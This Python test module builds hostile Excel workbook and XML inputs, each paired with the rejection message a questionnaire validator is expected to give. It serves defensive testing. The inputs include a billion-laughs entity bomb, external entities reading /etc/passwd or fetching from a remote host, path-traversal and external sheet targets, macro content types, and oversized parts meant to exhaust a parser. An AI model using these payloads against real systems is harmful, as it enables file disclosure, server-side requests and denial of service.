"""XML and workbook parts made to exhaust a parser, to lead it elsewhere, or to tell programs different things."""

from __future__ import annotations

import itertools
import random
import re
from collections.abc import Callable
from typing import Final

from hostile.bad_archives import SHEET
from hostile.forge import Builder, changed_part, plain, with_part
from workbooks import altered, repacked, template

MAIN: Final = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPES: Final = "[Content_Types].xml"
BOOK: Final = "xl/workbook.xml"
RELATIONS: Final = "xl/_rels/workbook.xml.rels"
STYLES: Final = "xl/styles.xml"

_DAMAGED = "damaged"
_DOCTYPE = "declares a document type"
_TWICE = "stands twice"
_DISAGREE = "disagree about which of its parts count"
_MACROS = "contains macros"


def sheet(body: bytes) -> Builder:
    """Return a builder of the template whose questions sheet holds only this."""
    part = b'<worksheet xmlns="%s">%s</worksheet>' % (MAIN, body)
    return lambda: repacked(template(), lambda name, content: part if name == SHEET else content)


def cells(inner: bytes, row: bytes = b'r="1"') -> Builder:
    """Return a builder of the template whose questions sheet has one row, with these cells."""
    return sheet(b"<sheetData><row %s>%s</row></sheetData>" % (row, inner))


def in_part(name: str, change: Callable[[bytes], bytes]) -> Builder:
    """Return a builder of a filled workbook with one part changed."""
    return lambda: altered(plain(), name, change)


def noise(count: int) -> bytes:
    """Return so many random digits, which do not pack too well."""
    return random.Random(1).randbytes((count + 1) // 2).hex()[:count].encode()  # noqa: S311  not for secrets


def with_answer(cell: bytes) -> Builder:
    """Return a builder of a filled workbook with another cell E9, the answer to ``access.mfa``."""
    return in_part(SHEET, lambda part: re.sub(rb'<c r="E9"[^>]*>.*?</c>', lambda _: cell, part, count=1))


def _headed(declaration: bytes, encoding: str = "utf-8") -> Builder:
    """Return a builder of a filled workbook whose questions sheet begins with this."""

    def change(part: bytes) -> bytes:
        return (declaration + part[part.index(b"<worksheet") :]).decode().encode(encoding)

    return in_part(SHEET, change)


def _entities() -> bytes:
    names = "abcdefghij"
    nested = b"".join(b'<!ENTITY %c "%s">' % (ord(n), b"&%c;" % ord(m) * 10) for m, n in itertools.pairwise(names))
    return b'<!DOCTYPE worksheet [<!ENTITY a "ha">' + nested + b"]>"


def _content_type(part: bytes, kind: bytes) -> Builder:
    return changed_part(TYPES, b"</Types>", b'<Override PartName="/%s" ContentType="%s"/></Types>' % (part, kind))


def _without(part: str) -> Builder:
    return lambda: repacked(plain(), lambda name, content: None if name == part else content)


def _two_books() -> bytes:
    data = plain()
    extra = {}

    def edit(name: str, content: bytes) -> bytes:
        if name in (BOOK, RELATIONS):
            extra[name.replace("workbook", "workbook2")] = content
        return content.replace(b"xl/workbook.xml", b"xl/workbook2.xml") if name == "_rels/.rels" else content

    repacked(data, edit)
    return repacked(data, edit, extra)


def _echo() -> bytes:
    """Return two hundred rows that each hold the longest text."""
    text = noise(50_000)
    lines = (b'<row r="%d"><c r="J%d" t="str"><v>%s</v></c></row>' % (n, n, text) for n in range(2000, 2200))
    return b"".join(lines)


_KIND: Final = b"application/vnd.openxmlformats-officedocument.spreadsheetml."

XML: Final[dict[str, tuple[Builder, str]]] = {
    "document type": (_headed(b"<!DOCTYPE worksheet>"), _DOCTYPE),
    "document type in UTF-16": (_headed(b"<!DOCTYPE worksheet>", "utf-16"), _DOCTYPE),
    "document type behind a comment": (_headed(b"<!-- x --><!DOCTYPE worksheet>"), _DOCTYPE),
    "billion laughs": (_headed(_entities()), _DOCTYPE),
    "file as an entity": (_headed(b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), _DOCTYPE),
    "host as an entity": (_headed(b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x"> %a;]>'), _DOCTYPE),
    "document type elsewhere": (_headed(b'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'), _DOCTYPE),
    "document type in the list of parts": (in_part(TYPES, lambda part: b"<!DOCTYPE Types>" + part), _DOCTYPE),
    "document type in a relationship": (in_part("_rels/.rels", lambda part: b"<!DOCTYPE x>" + part), _DOCTYPE),
    "document type under another name": (with_part("xl/data.bin", b"\xef\xbb\xbf <!DOCTYPE x><x/>"), _DOCTYPE),
    "document type in a drawing": (with_part("xl/drawings/x.vml", b"<!DOCTYPE x><x/>"), _DOCTYPE),
    "entity that nobody declares": (with_answer(b'<c r="E9" t="str"><v>&yes;</v></c>'), _DAMAGED),
    "encoding that nobody knows": (_headed(b'<?xml version="1.0" encoding="x-unknown"?>'), _DAMAGED),
    "encoding that is none of text": (_headed(b'<?xml version="1.0" encoding="rot13"?>'), _DAMAGED),
    "encoding that hides letters": (_headed(b'<?xml version="1.0" encoding="utf-7"?>'), _DAMAGED),
    "encoding of mainframes": (_headed(b'<?xml version="1.0" encoding="EBCDIC-CP-US"?>'), _DAMAGED),
    "bytes of no encoding": (with_answer(b'<c r="E9" t="str"><v>\xff\xfe</v></c>'), _DAMAGED),
    "character that XML has not": (with_answer(b'<c r="E9" t="str"><v>&#0;</v></c>'), _DAMAGED),
    "tags that cross": (cells(b"<c><v></c></v>"), _DAMAGED),
    "tag without end": (sheet(b"<sheetData><row></sheetData>"), _DAMAGED),
    "prefix that nobody declares": (cells(b'<x:c r="A1"/>'), _DAMAGED),
    "attribute twice": (cells(b'<c r="A1" r="B1"/>'), _DAMAGED),
    "two roots": (in_part(SHEET, lambda part: part + part), _DAMAGED),
    "text behind the root": (in_part(SHEET, lambda part: part + b"Yes"), _DAMAGED),
    "empty part": (in_part(SHEET, lambda _: b""), _DAMAGED),
    "cut part": (in_part(SHEET, lambda part: part[: len(part) // 2]), _DAMAGED),
    "depth": (with_part("xl/deep.xml", b"<a>" * 65 + b"</a>" * 65), "deeper than 64 levels"),
    "great depth": (with_part("xl/deep.xml", b"<a>" * 100_000), "deeper than 64 levels"),
    "attributes by the hundred thousand": (
        with_part("xl/wide.xml", b"<x%s/>" % b"".join(b' a%d="%d"' % (n, n % 7919) for n in range(200_000))),
        _DAMAGED,
    ),
    "elements by the million": (
        with_part("xl/many.xml", b"<x>%s</x>" % b"".join(b"<a>%d</a>" % (n * 7919) for n in range(750_001))),
        "more cells and styles",
    ),
    "tricks in a name of a tag": (cells(b'<c r="A1"><v/></c><\xe2\x80\xaec/>'), _DAMAGED),
}

BOOKS: Final[dict[str, tuple[Builder, str]]] = {
    "two workbooks": (_two_books, _DISAGREE),
    "shared texts by type alone": (_content_type(b"xl/evil.xml", _KIND + b"sharedStrings+xml"), _DISAGREE),
    "no relationships": (_without("_rels/.rels"), _DISAGREE),
    "no relationships of the workbook": (_without(RELATIONS), _DAMAGED),
    "no questions sheet": (_without(SHEET), _DAMAGED),
    "no styles": (_without(STYLES), _DAMAGED),
    "relationship twice": (changed_part(RELATIONS, b'Id="rId3"', b'Id="rId2"'), _DISAGREE),
    "sheet without relationship": (changed_part(BOOK, b'r:id="rId2"', b'r:id="rId77"'), _DAMAGED),
    "one part as two sheets": (changed_part(BOOK, b'r:id="rId3"', b'r:id="rId2"'), _DAMAGED),
    "two sheets of one name": (changed_part(BOOK, b'name="_lists"', b'name="questions"'), _DAMAGED),
    "sheet in a folder above": (changed_part(RELATIONS, b"/xl/worksheets/sheet2.xml", b"../../etc/passwd"), _DAMAGED),
    "sheet in a file": (changed_part(RELATIONS, b"/xl/worksheets/sheet2.xml", b"file:///etc/passwd"), _DAMAGED),
    "sheet on a host": (
        changed_part(RELATIONS, b'"/xl/worksheets/sheet2.xml"', b'"http://192.0.2.1/s.xml" TargetMode="External"'),
        _DAMAGED,
    ),
    "macros by type": (changed_part(TYPES, b"sheet.main+xml", b"sheet.macroEnabled.main+xml"), _MACROS),
    "macro sheet by type": (_content_type(b"xl/m.xml", b"application/vnd.ms-excel.macrosheet+xml"), _MACROS),
    "macro sheet by relationship": (
        in_part(RELATIONS, lambda part: re.sub(rb'Type="[^"]*/worksheet"', b'Type="urn:xlMacrosheet"', part, count=1)),
        _MACROS,
    ),
    "active control by type": (_content_type(b"xl/a.bin", b"application/vnd.ms-office.activeX"), _MACROS),
    "strict format": (
        in_part(SHEET, lambda part: part.replace(MAIN, b"http://purl.oclc.org/ooxml/spreadsheetml/main")),
        "Strict",
    ),
    "sheet of another name inside": (in_part(SHEET, lambda part: part.replace(b"worksheet", b"workbench")), _DAMAGED),
    "style that is none": (with_answer(b'<c r="E9" s="99999"><v>1</v></c>'), _DAMAGED),
    "style below none": (with_answer(b'<c r="E9" s="-1"><v>1</v></c>'), _DAMAGED),
    "style in words": (with_answer(b'<c r="E9" s="bold"><v>1</v></c>'), _DAMAGED),
    "number format without end": (
        in_part(
            STYLES,
            lambda part: part.replace(
                b"</numFmts>", b'<numFmt numFmtId="399" formatCode="%s"/></numFmts>' % (b"[" * 999)
            ),
        ),
        "longer than 255 characters",
    ),
    "shared text beyond the last": (with_answer(b'<c r="E9" t="s"><v>999</v></c>'), _DAMAGED),
    "shared text below the first": (with_answer(b'<c r="E9" t="s"><v>-1</v></c>'), _DAMAGED),
    "shared text in words": (with_answer(b'<c r="E9" t="s"><v>one</v></c>'), _DAMAGED),
    "row 0": (cells(b"<c><v>1</v></c>", b'r="0"'), _DAMAGED),
    "row below 0": (cells(b"<c><v>1</v></c>", b'r="-3"'), _DAMAGED),
    "row beyond the last": (cells(b"<c><v>1</v></c>", b'r="1048577"'), _DAMAGED),
    "row without end": (cells(b"<c><v>1</v></c>", b'r="%s"' % (b"9" * 5000)), _DAMAGED),
    "row in words": (cells(b"<c><v>1</v></c>", b'r="first"'), _DAMAGED),
    "row in digits of another script": (cells(b"<c><v>1</v></c>", 'r="\u0661"'.encode()), _DAMAGED),
    "column beyond the last": (cells(b'<c r="XFE1"><v>1</v></c>'), _DAMAGED),
    "column of four letters": (cells(b'<c r="AAAA1"><v>1</v></c>'), _DAMAGED),
    "cells beyond the last column": (cells(b'<c r="XFD1"><v>1</v></c><c><v>2</v></c>'), _DAMAGED),
    "cell in another row": (cells(b'<c r="A9"><v>1</v></c>'), "stands in row 1"),
    "cell twice": (cells(b'<c r="A1"><v>1</v></c><c r="A1"><v>2</v></c>'), _TWICE),
    "cell twice in two rows": (
        sheet(b'<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1"><c r="A1"><v>2</v></c></row></sheetData>'),
        _TWICE,
    ),
    "cell twice without addresses": (cells(b'<c r="B1"><v>1</v></c><c r="A1"/><c><v>2</v></c>'), _TWICE),
    "cell outside the rows": (sheet(b'<sheetData><c r="A1"><v>1</v></c></sheetData>'), "not every program looks"),
    "cell of another kind": (cells(b'<i:c xmlns:i="urn:i" r="A1"><v>1</v></i:c>'), "not every program looks"),
    "row in an extension": (
        sheet(b'<sheetData/><extLst><ext uri="{x}"><row r="1"><c r="A1"/></row></ext></extLst>'),
        "not every program looks",
    ),
    "merge without end": (
        sheet(b'<sheetData/><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        "more than 100,000 cells",
    ),
    "merge in words": (sheet(b'<sheetData/><mergeCells><mergeCell ref="all"/></mergeCells>'), _DAMAGED),
    "merge of columns": (sheet(b'<sheetData/><mergeCells><mergeCell ref="A:C"/></mergeCells>'), _DAMAGED),
    "link without end": (
        sheet(b'<sheetData/><hyperlinks><hyperlink ref="A1:XFD1048576" location="x"/></hyperlinks>'),
        "more than 100,000 cells",
    ),
    "comment without end": (
        in_part("xl/comments/comment1.xml", lambda part: re.sub(rb'ref="\w+"', b'ref="A1:XFD1048576"', part, count=1)),
        _DAMAGED,
    ),
    "formula area in words": (with_answer(b'<c r="E9"><f t="array" ref="all">1</f><v>1</v></c>'), _DAMAGED),
    "hidden columns in words": (
        in_part(SHEET, lambda part: part.replace(b'max="1"', b'max="x" hidden="1"', 1)),
        _DAMAGED,
    ),
    "one text in every cell": (
        in_part(SHEET, lambda part: part.replace(b"</sheetData>", b"%s</sheetData>" % _echo())),
        "more text than a questionnaire needs",
    ),
}
